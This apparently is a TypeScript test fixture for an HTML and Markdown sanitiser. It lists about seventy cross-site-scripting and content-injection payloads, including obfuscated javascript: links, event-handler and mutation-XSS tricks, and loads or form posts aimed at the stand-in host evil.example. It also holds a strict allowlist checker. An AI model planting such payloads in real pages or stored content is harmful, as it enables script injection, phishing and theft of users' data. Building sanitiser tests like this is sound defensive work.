/**
 * Rich texts that try to run, style, load or lead away, of each kind in the public cases of sanitisers. Each is written where somebody
 * could store it.
 */
export const hostileTexts: readonly string[] = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script/x>alert(1)</script>',
  '<script\n>alert(1)</script\n>',
  '<<script>alert(1)//<</script>',
  '<img src=x onerror=alert(1)>',
  '<img src="javascript:alert(1)">',
  '<img/src=`x`onerror=alert(1)>',
  '<img src=x onerror="&#97;lert(1)">',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><animate attributeName=href values=javascript:alert(1)></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<math href="javascript:alert(1)">x</math>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="java&#9;script:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  ...Array.from(
    '\u00a0\u1680\u180e\u2000\u200b\u2028\u2029\u202f\u205f\u3000\ufeff',
    (space) => `<a href="${space}javascript:alert(1)">x</a>`,
  ),
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="http://evil.example">x</a>',
  '<a href="file:///etc/passwd">x</a>',
  '<a href="/quote/" onclick="alert(1)">x</a>',
  '<a href="/quote/" style="position:fixed;inset:0">x</a>',
  '<a href="/quote/" target="_top">x</a>',
  '<a id="config" name="config" href="/quote/">x</a>',
  '<p style="background:url(https://evil.example/x)">x</p>',
  '<p onmouseover=alert(1)>x</p>',
  '<p class="ck-button" id="main">x</p>',
  '<style>*{display:none}</style>',
  '<style>@import "https://evil.example/x.css";</style>',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="https://evil.example/x.swf"></object>',
  '<embed src="https://evil.example/x.swf">',
  '<form action="https://evil.example"><input name="card"><button>Pay</button></form>',
  '<button formaction="javascript:alert(1)">x</button>',
  '<input autofocus onfocus=alert(1)>',
  '<select><option><img src=x onerror=alert(1)></option></select>',
  '<textarea></textarea><img src=x onerror=alert(1)>',
  '<video><source onerror="alert(1)"></video>',
  '<audio src=x onerror=alert(1)>',
  '<details open ontoggle=alert(1)>x</details>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<body onload=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">x</noscript>',
  '<template><img src=x onerror=alert(1)></template>',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>">x</xmp>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml version="1.0"?><script>alert(1)</script>',
  '<p>{{constructor.constructor("alert(1)")()}}</p><script>alert(1)</script>',
  '[x](javascript:alert(1))',
  '[x](JAVASCRIPT&colon;alert(1))',
  '[x](data:text/html,1)',
  '![x](https://evil.example/pixel.gif)',
  '![x](x "onerror=alert(1)")',
  '[x]: javascript:alert(1)\n\n[x]',
  '<javascript:alert(1)>',
  '[x](//evil.example)',
  `${'<div>'.repeat(500)}<script>alert(1)</script>`,
];

const tags = new Set(
  'p h2 h3 h4 ul ol li blockquote hr dl dt dd table thead tbody tr th td a strong em br'.split(' '),
);

/** What in HTML could harm; written without the sanitiser's own parser, and stricter than a browser. */
export function harmIn(html: string): string[] {
  const found = [...html.matchAll(/<\/?([a-z][^\s/>]*)([^>]*)>/gi)];
  const harm = found.flatMap(([tag, name = '', attributes = '']) => {
    const isPlain = tags.has(name) && /^(?: (?:href|rel|scope|start)="[^"<>]*")*(?: ?\/)?$/.test(attributes);
    const [, href = '/'] = /href="([^"]*)"/.exec(attributes) ?? [];
    return isPlain && /^(?:\/(?!\/)|#|https:\/\/|mailto:|tel:)/.test(href) ? [] : [tag];
  });
  // What no tag above accounts for: one that is not closed, a comment, a declaration.
  const rest = html.replace(/<\/?[a-z][^>]*>/gi, '');
  return rest.includes('<') ? [...harm, rest] : harm;
}
